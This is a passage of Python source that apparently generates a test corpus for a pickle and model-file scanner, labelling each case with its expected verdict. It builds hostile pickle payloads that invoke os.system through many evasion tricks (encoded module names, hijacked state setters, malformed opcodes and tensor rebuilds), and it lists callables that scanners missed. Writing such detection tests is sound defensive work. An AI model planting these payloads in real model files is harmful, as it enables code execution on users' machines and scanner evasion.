"""The sixth corpus: pickles, torch files, arrays and estimators."""

# ruff: noqa: E501, UP031  tables of cases, one a line

from __future__ import annotations

import base64
import binascii
import io
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
import zlib
from collections.abc import Callable
from typing import Any

import joblib
import numpy as np
import torch
from carriers import COMMAND, _legacy, reduced, stack_global, text, torch_zip, zipped
from fifth import number
from fourth import OS, binbytes, long_text
from sixth import DANGER, ODD, UNKNOWN, file
from sklearn.decomposition import PCA
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import FeatureUnion, Pipeline
from sklearn.preprocessing import MinMaxScaler, OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

P2, P4 = b"\x80\x02", b"\x80\x04"
CMD = text(COMMAND)
g = stack_global
SYSTEM = g("os", "system")


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


# functions that a scanner of 2024 to 2026 had not on its list
MORE = [
    "_posixsubprocess:fork_exec",
    "_winapi:CreateProcess",
    "nt:startfile",
    "posix:posix_spawn",
    "_pyio:open",
    "_io:_BufferedIOBase",
    "os:popen",
    "os:startfile",
    "os:execvp",
    "os:truncate",
    "os:symlink",
    "os:chmod",
    "os:setxattr",
    "os:memfd_create",
    "os:add_dll_directory",
    "_ctypes:dlopen",
    "_ctypes:CFuncPtr",
    "_imp:create_dynamic",
    "_frozen_importlib:_call_with_frames_removed",
    "_frozen_importlib_external:SourcelessFileLoader",
    "_thread:start_new_thread",
    "_pickle:loads",
    "_pickle:Unpickler",
    "_operator:attrgetter",
    "_operator:methodcaller",
    "_functools:reduce",
    "_functools:cmp_to_key",
    "_collections:deque.__init__",
    "_codecs:lookup_error",
    "codecs:register",
    "_testcapi:run_in_subinterp",
    "_xxsubinterpreters:run_string",
    "_interpreters:exec",
    "builtins:eval.__call__",
    "builtins:staticmethod",
    "builtins:classmethod",
    "builtins:property",
    "builtins:memoryview",
    "string:Template.substitute",
    "re:sub",
    "re._compiler:compile",
    "sre_compile:compile",
    "weakref:ref",
    "concurrent.futures:Future.add_done_callback",
    "bdb:Bdb.runeval",
    "doctest:testfile",
    "unittest.mock:patch",
    "unittest.mock:_importer",
    "unittest:TestLoader.loadTestsFromName",
    "xml.sax.expatreader:ExpatParser",
    "xml.dom.minidom:parse",
    "plistlib:load",
    "netrc:netrc",
    "mailcap:findmatch",
    "mimetypes:init",
    "zipapp:create_archive",
    "compileall:compile_file",
    "py_compile:compile",
    "modulefinder:ModuleFinder",
    "rlcompleter:Completer.attr_matches",
    "cmd:Cmd.onecmd",
    "turtle:_viewports",
    "tkinter:Tcl",
    "tkinter.filedialog:askopenfile",
    "inspect:getsource",
    "ast:literal_eval",
    "symtable:symtable",
    "tokenize:open",
    "tabnanny:check",
    "trace:Trace.run",
    "hmac:new",
    "random:seed",
    "uuid:uuid1",
    "platform:popen",
    "platform:_syscmd_file",
    "nturl2path:url2pathname",
    "msilib:init_database",
    "antigravity:geohash",
    "this:s",
    "idlelib.run:Executive.runcode",
    "idlelib.rpc:SocketIO",
    "pydoc:render_doc",
    "pydoc:writedoc",
    "pydoc:ttypager",
    "ensurepip._uninstall:_main",
    "venv:EnvBuilder._call_new_python",
    "distutils.core:run_setup",
    "distutils.sysconfig:customize_compiler",
    "asyncio:create_subprocess_shell",
    "asyncio.subprocess:create_subprocess_exec",
    "multiprocessing.managers:RebuildProxy",
    "multiprocessing.reduction:rebuild_connection",
    "multiprocessing.heap:rebuild_arena",
    "multiprocessing.shared_memory:SharedMemory",
    "multiprocessing.forkserver:ensure_running",
]
MORE_LIBRARIES = [
    "torch._C:_jit_clear_class_registry",
    "torch._C._functorch:pop_dynamic_layer_stack",
    "torch._inductor.compile_worker.subproc_pool:_SubprocExceptionInfo",
    "torch._dynamo.debug_utils:run_fwd_maybe_bwd",
    "torch._dynamo.repro.after_aot:repro_run",
    "torch._dynamo.convert_frame:replay",
    "torch._inductor.utils:run_and_get_code",
    "torch._inductor.codecache:PyCodeCache.load",
    "torch._inductor.package:load_package",
    "torch._functorch._aot_autograd.autograd_cache:AOTAutogradCache._lookup",
    "torch._export.converter:TS2EPConverter",
    "torch.distributed.run:main",
    "torch.distributed.elastic.multiprocessing.api:start_processes",
    "torch.distributed.checkpoint.default_planner:_EmptyStateDictLoadPlanner",
    "torch.distributed.rpc.internal:_run_function",
    "torch.distributed.nn.jit.instantiator:_do_instantiate_remote_module_template",
    "torch.utils._sympy.functions:OpaqueUnaryFn",
    "torch.utils.benchmark.utils.timer:Timer",
    "torch.utils.tensorboard:SummaryWriter",
    "torch.utils._cpp_extension_versioner:hash_source_files",
    "torch.utils.data.datapipes.iter.callable:MapperIterDataPipe",
    "torch.jit.frontend:get_jit_def",
    "torch.jit._script:RecursiveScriptModule",
    "torch.jit.annotations:check_fn",
    "torch.fx.graph:_exec",
    "torch.fx._symbolic_trace:wrap",
    "torch.fx.graph_module:_exec_with_source",
    "torch.fx.graph_module:_forward_from_src",
    "torch.hub:_import_module",
    "torch.package._directory_reader:DirectoryReader",
    "torch.profiler:profile",
    "torch.cuda:_lazy_init",
    "torch.backends.cudnn:flags",
    "torch.autograd.function:once_differentiable",
    "torch.nn.utils.parametrize:register_parametrization",
    "torch.nn.parallel.replicate:replicate",
    "torch.ao.quantization.fx:_convert",
    "torch.monitor:unregister_event_handler",
    "torch.overrides:handle_torch_function",
    "torch.__future__:set_overwrite_module_params_on_conversion",
    "numpy:genfromtxt",
    "numpy:loadtxt",
    "numpy:require",
    "numpy:fromregex",
    "numpy:fromiter",
    "numpy:piecewise",
    "numpy:nditer",
    "numpy.lib.format:open_memmap",
    "numpy.lib._datasource:open",
    "numpy.f2py.capi_maps:getinit",
    "numpy.f2py:compile",
    "numpy.ma.mrecords:fromtextfile",
    "numpy.ma:_arraymethod",
    "numpy.core:_ufunc_reconstruct",
    "numpy._core.numerictypes:sctype2char",
    "numpy.core._internal:_ctypes",
    "numpy.polynomial:set_default_printstyle",
    "scipy.optimize:minimize",
    "scipy.integrate:quad",
    "scipy.io.matlab:loadmat",
    "scipy.datasets:face",
    "scipy.special._testutils:FuncData",
    "scipy.linalg.cython_lapack:__pyx_capi__",
    "sklearn.utils._mocking:CheckingClassifier",
    "sklearn.utils._estimator_html_repr:estimator_html_repr",
    "sklearn.utils.metaestimators:available_if",
    "sklearn.utils.parallel:Parallel",
    "sklearn.utils.parallel:_FuncWrapper",
    "sklearn.datasets._base:load_files",
    "sklearn.datasets:fetch_file",
    "sklearn.externals.array_api_compat.common._helpers:array_namespace",
    "sklearn.metrics._scorer:_Scorer",
    "sklearn.metrics._dist_metrics:newObj",
    "sklearn.metrics:make_scorer",
    "sklearn.gaussian_process._gpc:GaussianProcessClassifier.__init__.__globals__",
    "joblib.parallel:BatchedCalls",
    "joblib.func_inspect:get_func_code",
    "joblib.pool:MemmappingPool",
    "joblib._store_backends:FileSystemStoreBackend",
    "joblib.externals.cloudpickle:loads",
    "joblib.externals.loky.cloudpickle_wrapper:CloudpickledObjectWrapper",
    "joblib.externals.loky.reusable_executor:get_reusable_executor",
    "pandas._libs.internals:_unpickle_block",
    "pandas.core.internals.managers:BlockManager",
    "pandas:read_hdf",
    "pandas:ExcelFile",
    "pandas.io.common:get_handle",
    "pandas.core.generic:NDFrame.pipe",
    "polars:LazyFrame.deserialize",
    "polars.io.plugins:register_plugin_source",
    "pyarrow:PythonFile",
    "pyarrow.lib:PyExtensionType",
    "pyarrow.compute:register_scalar_function",
    "safetensors.torch:load_file",
    "skops.io:load",
    "skops.io._audit:get_tree",
    "tokenizers:Tokenizer.from_file",
    "sentencepiece:SentencePieceProcessor.Load",
    "transformers.utils.import_utils:_LazyModule",
    "transformers:pipeline",
    "transformers.trainer:Trainer",
    "transformers.tools.base:load_tool",
    "peft:PeftModel.from_pretrained",
    "diffusers:DiffusionPipeline.from_pretrained",
    "accelerate.utils.operations:recursively_apply",
    "accelerate.commands.launch:launch_command",
    "deepspeed.runtime.utils:call_to_str",
    "datasets:load_dataset",
    "evaluate:load",
    "lightning_fabric.utilities.cloud_io:_load",
    "pytorch_lightning.core.saving:load_hparams_from_yaml",
    "pytorch_lightning.utilities.parsing:AttributeDict",
    "megatron.core:exec",
    "vllm.utils:resolve_obj_by_qualname",
    "vllm.distributed.device_communicators.shm_broadcast:MessageQueue",
    "sglang.srt.utils:pickle_load",
    "ultralytics.nn.tasks:parse_model",
    "yolov5.models.common:DetectMultiBackend",
    "timm.models:create_model",
    "open_clip:create_model",
    "fairseq.tasks:import_tasks",
    "nemo.core:ModelPT.restore_from",
    "espnet2.tasks:abs_task",
    "monai.bundle:ConfigParser",
    "monai.bundle.config_item:ConfigExpression",
    "mmcv.utils:Config.fromfile",
    "mmengine.registry:Registry.build",
    "detectron2.config:LazyConfig.load",
    "detectron2.utils.file_io:PathManager",
    "paddle:load",
    "tensorrt:Runtime",
    "cupy:RawKernel",
    "numba.core.serialize:_unpickle__CustomPickled",
    "numba.cuda:jit",
    "llvmlite.binding:parse_assembly",
    "cffi:FFI.dlopen",
    "triton:compile",
    "jax:pure_callback",
    "jax._src.api:jit",
    "haiku:transform",
    "optax:apply_updates",
    "equinox:tree_deserialise_leaves",
    "dask.base:unpickle",
    "dask.core:get",
    "distributed.protocol.pickle:loads",
    "ray:get",
    "celery.app:App",
    "airflow.models:DagBag",
    "prefect:flow",
    "luigi:run",
    "kedro.io:DataCatalog.from_config",
    "mlflow.sklearn:load_model",
    "gensim.utils:unpickle",
    "gensim.models:Word2Vec.load",
    "nltk.tag.perceptron:PerceptronTagger.load",
    "flair.models:SequenceTagger.load",
    "stanza:Pipeline",
    "allennlp.common:FromParams",
    "spacy.cli:download",
    "thinc.api:Config",
    "lightgbm.basic:Booster",
    "lightgbm.sklearn:LGBMClassifier",
    "xgboost.sklearn:XGBClassifier",
    "xgboost.collective:init",
    "h2o:upload_mojo",
    "statsmodels.iolib.smpickle:load_pickle",
    "statsmodels.formula.api:ols",
    "patsy:dmatrix",
    "patsy.eval:EvalEnvironment.eval",
    "pycaret.internal:Pipeline",
    "tpot:TPOTClassifier",
    "imblearn.pipeline:Pipeline",
    "feature_engine.encoding:MeanEncoder",
    "category_encoders:TargetEncoder",
    "sklearn_pandas:DataFrameMapper",
    "autogluon.tabular:TabularPredictor.load",
    "dowhy.gcm:auto",
    "networkx.readwrite.gpickle:read_gpickle",
    "rdflib:Graph.parse",
    "PIL.Image:open",
    "PIL.ImageMath:eval",
    "PIL.ImageShow:show",
    "cv2:VideoCapture",
    "imageio:imread",
    "skimage.io:imread",
    "librosa:load",
    "soundfile:read",
    "h5py:File",
    "zarr:open",
    "tables:openFile",
    "netCDF4:Dataset",
    "sqlalchemy:create_engine",
    "psycopg2:connect",
    "pymongo:MongoClient",
    "redis:Redis",
    "kafka:KafkaProducer",
    "git:Repo",
    "docker:from_env",
    "kubernetes.client:ApiClient",
    "twisted.internet.reactor:spawnProcess",
    "tornado.util:import_object",
    "werkzeug.utils:import_string",
    "django.utils.module_loading:import_string",
    "flask:cli",
    "celery.utils.imports:instantiate",
    "kombu.serialization:pickle_loads",
    "zope.dottedname.resolve:resolve",
    "sympy.parsing.sympy_parser:parse_expr",
    "sympy.utilities.lambdify:lambdify",
    "numexpr:evaluate",
    "asteval:Interpreter",
    "mako.template:Template",
    "Cheetah.Template:Template",
    "chameleon:PageTemplate",
    "yaml.constructor:UnsafeConstructor",
    "ruamel.yaml:YAML",
    "toml:loads",
    "jsonpickle:decode",
    "jsonpickle.unpickler:loadclass",
    "srsly:read_jsonl",
    "msgpack_numpy:decode",
    "dill.source:importable",
    "pyximport:install",
    "cython:inline",
    "weave:inline",
    "torchvision.datasets.folder:default_loader",
    "torchvision.io:read_file",
    "torchaudio:load",
    "torchtext.vocab:Vectors",
    "torch_geometric.data:Data",
    "torch_scatter:scatter",
    "apex.amp:initialize",
    "flash_attn:flash_attn_func",
]
for _pair in MORE:
    _module, _name = _pair.split(":")
    file(f"called6_{_module}.{_name}", reduced(_module, _name), UNKNOWN, "m.pkl")
for _number, _pair in enumerate(MORE_LIBRARIES):
    _module, _name = _pair.split(":")
    _proto = (4, 2, 0)[_number % 3]
    file(f"called6_{_module}.{_name}", reduced(_module, _name, proto=_proto), UNKNOWN, "m.pkl")

TENSOR = g("torch._utils", "_rebuild_tensor_v2")
STORAGE = b"(" + text("storage") + g("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQ"
ONE = called(TENSOR, STORAGE, b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86", b"\x89", b"}")
QUANTISED = b"(" + g("torch", "per_tensor_affine") + b"G\x3f\xb9\x99\x99\x99\x99\x99\x9aK\x00t"
NAMESPACE = g("argparse", "Namespace") + b")R"
ORDERED = g("collections", "OrderedDict") + b")R"
DEQUE = g("collections", "deque") + b")R"


def weights(value: bytes) -> bytes:
    """A dictionary of one weight."""
    return P4 + b"}" + text("w") + value + b"s."


def torchfile(value: bytes, data: bytes = bytes(16)) -> bytes:
    return torch_zip(weights(value), **{"data/0": data})


PLAIN: dict[str, tuple[bytes, tuple[int, ...]]] = {
    # objects that later opcodes call
    "state_setter_told_by_a_state": (NAMESPACE + b"}" + text("__setstate__") + SYSTEM + b"sb" + CMD + b"b", DANGER),
    "list_adder_told_by_a_state": (NAMESPACE + b"}" + text("append") + SYSTEM + b"sb" + CMD + b"a", DANGER),
    "list_extender_told_by_a_state": (NAMESPACE + b"}" + text("extend") + SYSTEM + b"sb(" + CMD + b"e", DANGER),
    "set_adder_told_by_a_state": (NAMESPACE + b"}" + text("add") + SYSTEM + b"sb(" + CMD + b"\x90", DANGER),
    "list_adder_of_an_allowed_function": (NAMESPACE + b"}" + text("append") + g("torch._utils", "_rebuild_parameter") + b"sbNa", ODD),
    "state_setter_of_an_allowed_class": (NAMESPACE + b"}" + text("__setstate__") + g("collections", "OrderedDict") + b"sb" + CMD + b"b", ODD),
    "missing_key_made_by_a_class": (called(g("collections", "defaultdict"), g("subprocess", "Popen")), UNKNOWN),
    "missing_key_made_by_a_type": (called(g("collections", "defaultdict"), g("torch", "load")), UNKNOWN),
    "counter_of_an_iterator": (called(g("collections", "Counter"), called(g("itertools", "starmap"), SYSTEM, b"]" + CMD + b"\x85a")), DANGER),
    "ordered_by_a_reduce_of_items": (ORDERED + b"(" + text("k") + called(SYSTEM, CMD) + b"u", DANGER),
    "sorted_by_a_key": (called(g("builtins", "sorted"), b"]" + CMD + b"a"), UNKNOWN),
    "zip_of_maps": (called(g("builtins", "zip"), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")), DANGER),
    "chain_of_a_map": (called(g("itertools", "chain.from_iterable"), b"]" + called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a") + b"a"), DANGER),
    "text_joined_of_a_map": (called(g("builtins", "str.join"), text(""), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")), DANGER),
    "bytes_of_a_map": (called(g("builtins", "bytes"), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")), DANGER),
    "tuple_new_of_a_map": (g("builtins", "tuple") + called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a") + b"\x85\x81", DANGER),
    "size_of_a_map": (called(g("torch", "Size"), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")), DANGER),
    "fraction_of_a_text": (called(g("fractions", "Fraction"), text("1/3")), (0, 3, 4)),
    "number_told_by_its_hash": (called(g("builtins", "hash"), CMD), UNKNOWN),
    "attribute_by_format": (called(g("builtins", "str.format"), text("{0.__init__.__globals__}"), SYSTEM), DANGER),
    "method_of_a_text": (called(g("builtins", "str.encode"), CMD), UNKNOWN),
    "bound_method_by_types": (called(g("types", "MethodType"), SYSTEM, CMD), DANGER),
    "getattr_of_an_allowed_name": (called(g("builtins", "getattr"), g("torch", "Size"), text("__init__")), UNKNOWN),
    "instance_made_of_a_sequence": (g("collections", "OrderedDict") + b"(" + CMD + CMD + b"\x86t\x81", (0, 1, 3, 4)),
    "copyreg_of_a_list": (called(g("copyreg", "_reconstructor"), g("builtins", "list"), g("builtins", "object"), b"N"), (0, 1, 3, 4)),
    "copyreg_of_a_function": (called(g("copyreg", "_reconstructor"), SYSTEM, g("builtins", "object"), b"N"), DANGER),
    "copyreg_by_a_named_base": (called(g("copyreg", "_reconstructor"), g("collections", "OrderedDict"), g("os", "environ.__class__"), b"}"), UNKNOWN),
    # spellings
    "line_ends_of_another_system": (b"cos\r\nsystem\r\n(V" + COMMAND.encode() + b"\ntR", UNKNOWN),
    "old_instance_with_line_ends": (b"(V" + COMMAND.encode() + b"\nios\r\nsystem\r\n", UNKNOWN),
    "dots_for_a_module": (b"c.os\nsystem\n(V" + COMMAND.encode() + b"\ntR", UNKNOWN),
    "module_of_nothing": (b"c\nsystem\n(V" + COMMAND.encode() + b"\ntR", UNKNOWN),
    "name_of_nothing": (b"cos\n\n(V" + COMMAND.encode() + b"\ntR", UNKNOWN),
    "name_of_wide_latin": (g("ｏｓ", "system")[0:0] + long_text("ｏｓ") + text("system") + b"\x93" + CMD + b"\x85R", UNKNOWN),
    "name_by_a_number": (b"K\x01" + text("system") + b"\x93", ODD),
    "name_by_bytes": (b"C\x02os" + b"C\x06system" + b"\x93" + CMD + b"\x85R", UNKNOWN),
    "name_by_a_joined_text": (called(g("_codecs", "decode"), b"C\x02os", text("ascii")) + text("system") + b"\x93" + CMD + b"\x85R", UNKNOWN),
    "name_by_base64": (called(g("_codecs", "decode"), binbytes(base64.b64encode(b"os")), text("base64")) + text("system") + b"\x93" + CMD + b"\x85R", UNKNOWN),
    "name_by_turned_letters": (called(g("_codecs", "encode"), text("bf"), text("rot13")) + text("system") + b"\x93" + CMD + b"\x85R", UNKNOWN),
    "codec_of_letters": (called(g("_codecs", "decode"), b"C\x04\\x41", text("unicode_escape")), ODD),
    "codec_of_uuencode": (called(g("_codecs", "decode"), binbytes(b"begin 666 a\n \nend\n"), text("uu")), ODD),
    "codec_of_bz2": (called(g("_codecs", "decode"), binbytes(b"BZh9"), text("bz2")), ODD),
    "codec_of_raw_pickle": (called(g("_codecs", "encode"), long_text(OS.decode("latin-1")), text("latin1")), ODD),
    "codec_of_undefined": (called(g("_codecs", "encode"), text("x"), text("undefined")), ODD),
    "codec_with_an_error_handler": (called(g("_codecs", "encode"), text("x"), text("latin1"), text("surrogateescape")), ODD),
    "mark_popped_by_a_pop": (b"(N0" + SYSTEM + b"(" + CMD + b"tR", DANGER),
    "duplicate_then_mark": (CMD + SYSTEM + b"2(" + CMD + b"tR0N", DANGER),
    "memo_read_before_written": (b"h\x05N", ODD),
    "memo_written_by_nothing": (b"q\x00N", ODD),
    "stop_in_the_middle": (b"N." + SYSTEM + CMD + b"\x85R", DANGER),
    "protocol_said_late": (b"N0\x80\x05" + SYSTEM + CMD + b"\x85R", DANGER),
    "frame_of_nothing": (b"\x95" + bytes(8) + SYSTEM + CMD + b"\x85R", DANGER),
    "frame_that_ends_early": (b"\x95" + struct.pack("<Q", 3) + SYSTEM + CMD + b"\x85R", UNKNOWN),
    "extension_of_one_byte": (b"\x82\x01" + CMD + b"\x85R", UNKNOWN),
    "extension_of_two_bytes": (b"\x83\x01\x00" + CMD + b"\x85R", UNKNOWN),
    "extension_of_zero": (b"\x82\x00", ODD),
    "buffer_made_readonly": (CMD + b"\x98", ODD),
    "number_in_hexadecimal": (b"I0x10\n", (0, 3, 4)),
    "number_with_spaces": (b"I 1 \n", (0, 3, 4)),
    "fraction_with_underscores": (b"F1_0.0\n", ODD),
    "fraction_that_is_none": (b"Fnan\n", (0, 3, 4)),
    "text_with_raw_escapes": (b"Vos\\u000asystem\n0N", (0, 3, 4)),
    "string_of_unequal_marks": (b"S'os\"\n", ODD),
    "string_without_marks": (b"Sos\n", ODD),
    "unicode_that_is_none": (b"\x8c\x02\xff\xfe", ODD),
    "adding_to_a_tuple": (b"N\x85Na", ODD),
    "adding_to_a_number": (b"K\x01(Ne", ODD),
    "key_that_is_a_list": (b"}]Ns", ODD),
    "set_of_lists": (b"\x8f(]\x90", ODD),
    "frozen_set_of_dictionaries": (b"(}\x91", ODD),
    "state_of_a_dictionary": (b"}}" + text("a") + b"K\x01sb", ODD),
    "state_of_a_number": (b"K\x05}" + text("a") + b"K\x01sb", ODD),
    "state_of_two_parts_for_a_class": (g("collections", "OrderedDict") + b"N}" + text("a") + b"K\x01s\x86b", ODD),
    "state_with_a_number_as_name": (NAMESPACE + b"}K\x01K\x02sb", ODD),
    "state_that_names_a_class": (NAMESPACE + b"}" + text("__class__") + g("collections", "OrderedDict") + b"sb", ODD),
    "state_that_names_a_dictionary": (NAMESPACE + b"}" + text("__dict__") + b"}sb", ODD),
    "state_of_an_ordered_class": (ORDERED + b"}" + text("__class__") + g("argparse", "Namespace") + b"sb", ODD),
    "state_of_a_deque": (DEQUE + b"}" + text("maxlen") + b"K\x01sb", ODD),
    "deque_that_forgets": (called(g("collections", "deque"), b"]" + CMD + b"a", b"K\x00"), (0, 3, 4)),
    "deque_of_a_negative_length": (called(g("collections", "deque"), b"]", number(-5)), ODD),
    "date_beyond_the_calendar": (called(g("datetime", "datetime"), binbytes(b"\xff" * 10)), ODD),
    "time_of_a_huge_span": (called(g("datetime", "timedelta"), number(10**12)), ODD),
    "decimal_of_a_huge_exponent": (called(g("decimal", "Decimal"), text("1e999999999999")), (0, 3, 4)),
    "unknown_of_uuid": (g("uuid", "UUID") + b")\x81}" + text("int") + SYSTEM + b"sb", UNKNOWN),
    "path_that_leaves": (called(g("pathlib", "PosixPath"), text("/etc"), text("passwd")), (0, 3, 4)),
    "path_of_windows": (called(g("pathlib", "WindowsPath"), text("\\\\host\\share")), (0, 3, 4)),
    "complex_of_a_text": (called(g("builtins", "complex"), text("1+j")), (0, 3, 4)),
    "range_of_nothing": (called(g("builtins", "range"), number(0), number(2**62), number(0)), ODD),
    "slice_of_texts": (called(g("builtins", "slice"), CMD, CMD, CMD), (0, 3, 4)),
    "bytes_hidden_in_a_list_of_numbers": (b"](" + b"".join(b"K" + bytes([v]) for v in OS) + b"e", ODD),
    "bytes_hidden_in_a_tuple_of_numbers": (b"(" + b"".join(b"K" + bytes([v]) for v in OS) + b"t", ODD),
    "bytes_hidden_in_keys": (b"}(" + b"".join(b"M" + struct.pack("<H", k) + b"K" + bytes([v]) for k, v in enumerate(OS)) + b"u", (0, 3, 4)),
    "gadget_as_hexadecimal_text": (long_text(binascii.hexlify(OS).decode()), ODD),
    "gadget_as_base64_text": (long_text(base64.b64encode(OS).decode()), ODD),
    "gadget_as_packed_bytes": (binbytes(zlib.compress(OS)), ODD),
    "gadget_as_base85": (binbytes(base64.b85encode(OS)), (0, 3, 4)),
    "gadget_turned_round": (binbytes(OS[::-1]), (0, 3, 4)),
    "source_as_text": (long_text("import os\nos.system('" + COMMAND + "')\n"), ODD),
    "shell_as_bytes": (binbytes(b"#!/bin/sh\n" + COMMAND.encode() + b"\n"), ODD),
    "one_number": (number(5), (0, 4)),
    "device_of_a_far_number": (called(g("torch", "device"), text("cuda"), number(10**6)), (0, 3, 4)),
    "device_of_a_call": (called(g("torch", "device"), called(SYSTEM, CMD)), DANGER),
    "type_by_getattr": (called(g("builtins", "getattr"), g("torch", "float32"), text("to_complex")), UNKNOWN),
    "size_of_texts": (called(g("torch", "Size"), b"]" + CMD + b"a"), ODD),
    "size_below_zero": (called(g("torch", "Size"), b"]" + number(-1) + b"a"), ODD),
    "generator_with_state": (called(g("torch", "Generator"), text("cpu")), ODD),
    "enumeration_by_value": (called(g("signal", "Signals"), b"K\x09"), UNKNOWN),
    "named_tuple_of_a_module": (called(g("sys", "flags.__class__"), b")"), UNKNOWN),
    "locale_of_time": (called(g("time", "struct_time"), b"(" + b"K\x01" * 9 + b"t"), UNKNOWN),
}  # fmt: skip
for _name, (_body, _codes) in PLAIN.items():
    file(f"plain6_{_name}", P4 + _body + b".", _codes, "m.pkl")

TENSORS: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "quantised_of_far_strides": (called(g("torch._utils", "_rebuild_qtensor"), STORAGE, b"K\x00", b"K\x02\x85", number(2**40) + b"\x85", QUANTISED, b"\x89", b"}"), ODD),
    "quantised_beyond": (called(g("torch._utils", "_rebuild_qtensor"), STORAGE, number(2**30), b"K\x02\x85", b"K\x01\x85", QUANTISED, b"\x89", b"}"), ODD),
    "nested": (called(g("torch._utils", "_rebuild_nested_tensor"), ONE, ONE, ONE, ONE), ODD),
    "without_storage": (called(g("torch._utils", "_rebuild_meta_tensor_no_storage"), g("torch", "float32"), number(2**40) + b"\x85", b"K\x01\x85", b"\x89"), ODD),
    "from_numpy_on_a_device": (called(g("torch._utils", "_rebuild_device_tensor_from_numpy"), ONE, g("torch", "float32"), text("cpu"), b"\x89"), ODD),
    "from_cpu_on_a_device": (called(g("torch._utils", "_rebuild_device_tensor_from_cpu_tensor"), ONE, g("torch", "float32"), text("cuda:7"), b"\x89"), ODD),
    "xla": (called(g("torch._utils", "_rebuild_xla_tensor"), ONE, g("torch", "float32"), text("xla"), b"\x89"), ODD),
    "fake": (called(g("torch._subclasses.fake_tensor", "FakeTensor"), ONE), UNKNOWN),
    "sparse_columns_outside": (called(g("torch._utils", "_rebuild_sparse_tensor"), g("torch", "sparse_csr"), b"(" + ONE + ONE + ONE + b"K\x02K\x02\x86t"), ODD),
    "sparse_by_a_number": (called(g("torch._utils", "_rebuild_sparse_tensor"), called(g("torch.serialization", "_get_layout"), text("torch.sparse_coo")), b"(" + ONE + ONE + b"K\x02K\x02\x86\x89t"), ODD),
    "parameter_of_a_text": (called(g("torch._utils", "_rebuild_parameter"), CMD, b"\x88", b"}"), ODD),
    "parameter_of_a_parameter": (called(g("torch._utils", "_rebuild_parameter"), called(g("torch._utils", "_rebuild_parameter"), ONE, b"\x88", b"}"), b"\x88", b"}"), (0, 3, 4)),
    "parameter_with_state": (called(g("torch._utils", "_rebuild_parameter_with_state"), ONE, b"\x88", b"}", b"}" + text("__class__") + SYSTEM + b"s"), UNKNOWN),
    "parameter_with_a_grad": (called(g("torch._utils", "_rebuild_parameter_with_state"), ONE, b"\x88", b"}", b"}" + text("data") + ONE + b"s"), ODD),
    "hooks_that_are_full": (called(TENSOR, STORAGE, b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86", b"\x89", ORDERED + text("k") + SYSTEM + b"s"), UNKNOWN),
    "metadata_of_a_tensor": (called(TENSOR, STORAGE, b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86", b"\x89", b"}", b"}" + text("x") + SYSTEM + b"s"), UNKNOWN),
    "third_rebuild": (called(g("torch._utils", "_rebuild_tensor_v3"), STORAGE, b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86", b"\x89", b"}", g("torch", "float64"), b"}"), ODD),
    "first_rebuild": (called(g("torch._utils", "_rebuild_tensor"), STORAGE, b"K\x00", b"K\x02K\x02\x86", b"K\x02K\x01\x86"), (0, 4)),
    "state_on_a_tensor": (ONE + b"}" + text("__class__") + SYSTEM + b"sb", UNKNOWN),
    "state_that_sets_data": (ONE + b"}" + text("data") + ONE + b"sb", ODD),
    "state_of_the_old_kind": (ONE + b"(" + STORAGE + b"K\x00K\x02\x85K\x01\x85tb", ODD),
    "from_type_with_a_state": (called(g("torch._tensor", "_rebuild_from_type_v2"), TENSOR, g("torch", "Tensor"), b"(" + STORAGE + b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89}t", b"}" + text("sum") + SYSTEM + b"s"), UNKNOWN),
    "from_type_with_a_plain_state": (called(g("torch._tensor", "_rebuild_from_type_v2"), TENSOR, g("torch", "Tensor"), b"(" + STORAGE + b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89}t", b"}" + text("shape") + b"K\x05s"), ODD),
    "from_type_to_a_number": (called(g("torch._tensor", "_rebuild_from_type_v2"), TENSOR, g("builtins", "int"), b"(" + STORAGE + b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89}t", b"}"), ODD),
    "storage_on_a_device_of_a_stranger": (ONE.replace(text("cpu"), text("evil:0")), ODD),
    "storage_with_a_view": (ONE.replace(b"K\x04tQ", b"K\x04NtQ"), ODD),
    "storage_of_five_parts": (ONE.replace(b"K\x04tQ", b"K\x04" + CMD + b"tQ"), ODD),
    "storage_named_by_a_number": (ONE.replace(text("0") + text("cpu"), b"K\x00" + text("cpu")), ODD),
    "storage_of_another_word": (ONE.replace(text("storage"), text("module")), ODD),
    "storage_of_an_untyped_class": (ONE.replace(g("torch", "FloatStorage"), g("torch.storage", "UntypedStorage")), (0, 3, 4)),
    "storage_of_a_typed_class": (ONE.replace(g("torch", "FloatStorage"), g("torch", "TypedStorage")), ODD),
    "storage_of_a_class_of_cuda": (ONE.replace(g("torch", "FloatStorage"), g("torch.cuda", "FloatStorage")), (0, 3, 4)),
    "storage_of_a_text": (ONE.replace(g("torch", "FloatStorage"), text("FloatStorage")), ODD),
    "distributed": (called(g("torch.distributed.tensor", "DTensor"), ONE), UNKNOWN),
    "sharded": (called(g("torch.distributed._shard.sharded_tensor.api", "ShardedTensor"), ONE), UNKNOWN),
    "stored_as_bytes": (called(g("torch.storage", "_load_from_bytes"), binbytes(OS)), DANGER),
    "by_a_name_of_jit": (called(g("torch.jit._pickle", "restore_type_tag"), ONE, text("List[int]")), ODD),
    "by_a_list_of_jit": (called(g("torch.jit._pickle", "build_intlist"), b"]"), ODD),
    "quantised_module": (called(g("torch.ao.nn.quantized.modules.linear", "LinearPackedParams"), g("torch", "qint8")), UNKNOWN),
    "buffer_class": (called(g("torch.nn.parameter", "Buffer"), ONE), (0, 1, 3, 4)),
